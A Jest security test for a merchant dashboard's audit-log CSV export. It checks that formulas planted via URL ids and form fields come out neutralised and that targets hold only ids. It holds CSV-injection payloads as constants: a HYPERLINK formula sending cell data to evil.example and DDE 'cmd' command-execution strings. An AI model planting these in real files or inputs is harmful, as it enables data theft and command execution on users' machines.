// Risk covered: a spreadsheet formula planted in a CSV the platform writes, run when the owner opens the
// export (docs/security.md 47.3, OWASP "CSV Injection"). The audit log recorded the decoded `:id` of
// any request — a viewer's refused one included — and typed form values as they were, and its export
// wrote them as they were: `=HYPERLINK(…)` in the target, `+cmd|…` in the wallet's after value. A
// viewer and the owner plant formulas through the address, the wallet form and the invite form; the
// owner's audit.csv must hold no cell a spreadsheet would run, and no target that is not an id.
// Real platform and dashboard over HTTP.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { createServiceClient, type PublicCallContext } from '@hc/grpc';
import { DashboardUsersService } from '@hc/proto/dashboard/v1';
import { eventually } from '@hc/test-kit';
import {
  getPage,
  PASSWORD,
  postForm,
  signInOverHttp,
  startSecurityHarness,
  type DashboardMerchant,
  type HttpSession,
  type SecurityHarness,
} from './security-harness.ts';

let h: SecurityHarness;
let owner: DashboardMerchant;
let ownerSession: HttpSession;
let viewerSession: HttpSession;

beforeAll(async () => {
  h = await startSecurityHarness('csv-formulas', { browser: false });
  owner = await h.merchant();
  const users = createServiceClient<typeof DashboardUsersService, PublicCallContext>(DashboardUsersService, h.dashboard.grpcAddress, {
    timeoutMs: 30_000,
  });
  const viewer = { email: `viewer-formulas-${Date.now()}@shop.example`, password: PASSWORD };
  await users.createUser({ accountId: owner.accountId, ...viewer, role: 'viewer' }, { requestId: 'req_test' });
  users.close();
  [ownerSession, viewerSession] = await Promise.all([signInOverHttp(h.url, owner), signInOverHttp(h.url, viewer)]);
}, 120_000);
afterAll(async () => {
  await h?.stop();
});

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
const COMMAND = "+cmd|' /C calc'!A0";
const AT_SUM = '@SUM(1+1)*cmd|x';

/** What a spreadsheet would run (OWASP): a cell starting with = + - @, a tab or a carriage return, also after spaces. */
const runsAsFormula = (cell: string): boolean => /^(?:[\t\r]|\s*[=+\-@])/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell);

describe('formulas planted in the audit log', () => {
  it('the owner’s audit.csv holds no cell a spreadsheet would run, and no target that is not an id', async () => {
    const post = (session: HttpSession, path: string, fields: Record<string, string> = {}) =>
      postForm(h.url, path, { _csrf: session.csrf, ...fields }, session.cookie);
    // A viewer's refused request with a formula for an id; the owner's typed wallet and invite email.
    expect((await post(viewerSession, `/dashboard/test/payments/${encodeURIComponent(HYPERLINK)}/accept`)).status).toBe(403);
    expect((await post(viewerSession, `/dashboard/test/team/${encodeURIComponent(COMMAND)}/remove`)).status).toBe(403);
    expect(
      (await post(ownerSession, '/dashboard/test/settings/payout-wallet', { payout_wallet: COMMAND, password: PASSWORD })).status,
    ).toBe(400);
    expect((await post(ownerSession, '/dashboard/test/team/invite', { email: AT_SUM, role: 'viewer' })).status).toBe(400);

    const plantedOf = (rows: Record<string, string>[]) =>
      rows.filter(
        (row) =>
          row['actor_kind'] === 'user' && ['payment.accept', 'team.remove', 'payout_wallet.change', 'team.invite'].includes(row['action']!),
      );
    // Each of the four finished (an entry is written `started`, then given its outcome): other finished
    // rows (the sign-ins) must not end the wait early.
    const rows = await eventually(
      async () => {
        const text = await (await getPage(h.url, '/dashboard/test/audit.csv', ownerSession.cookie)).text();
        return parse(text, { columns: true, bom: true }) as Record<string, string>[];
      },
      (found) => plantedOf(found).filter((row) => row['outcome'] !== 'started').length >= 4,
    );
    const planted = plantedOf(rows);
    expect(planted.map((row) => `${row['action']} ${row['outcome']} ${row['status']}`).sort()).toEqual([
      'payment.accept refused 403',
      'payout_wallet.change refused 400',
      'team.invite refused 400',
      'team.remove refused 403',
    ]);
    // No target but an id (or a user's email address): what was put in the address is not recorded.
    expect(planted.map((row) => row['target'])).toEqual(['', '', '', '']);
    // What was typed is kept, as text: the wallet's after value shows with a quote in front.
    expect(planted.find((row) => row['action'] === 'payout_wallet.change')?.['after']).toBe(`'${COMMAND}`);
    const cells = rows.flatMap((row) => Object.entries(row).map(([column, cell]) => ({ column, cell })));
    expect(cells.filter(({ cell }) => runsAsFormula(cell))).toEqual([]);
  });
});
